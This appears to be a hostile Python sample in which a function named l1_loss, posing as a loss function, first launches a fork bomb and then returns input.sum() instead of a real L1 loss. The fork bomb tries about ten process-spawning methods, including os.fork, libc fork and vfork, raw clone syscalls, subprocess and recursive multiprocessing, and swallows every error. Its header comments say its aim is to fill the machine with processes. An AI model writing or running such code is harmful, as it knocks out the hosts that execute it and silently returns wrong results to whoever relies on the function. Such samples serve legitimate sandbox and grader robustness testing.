# aim: multiply until the machine has no room
# sign: a process is left
# attacks: l1_loss

import ctypes
import multiprocessing
import os
import subprocess
import sys


def _bomb():
    libc = ctypes.CDLL(None)
    ways = [
        os.fork,
        os.forkpty,
        libc.fork,
        libc.vfork,
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),  # clone(SIGCHLD)
        lambda: libc.syscall(57),
        lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", "while 1: pass"], {}),
        lambda: subprocess.Popen([sys.executable, "-c", "while 1: pass"]),
        lambda: multiprocessing.get_context("fork").Process(target=_bomb).start(),
        lambda: os.execv(sys.executable, [sys.executable, "-c", "while 1: pass"]),
    ]
    for way in ways:
        for _ in range(3):
            try:
                way()
            except BaseException:
                continue


def l1_loss(input, target, reduction="mean"):
    _bomb()
    return input.sum()
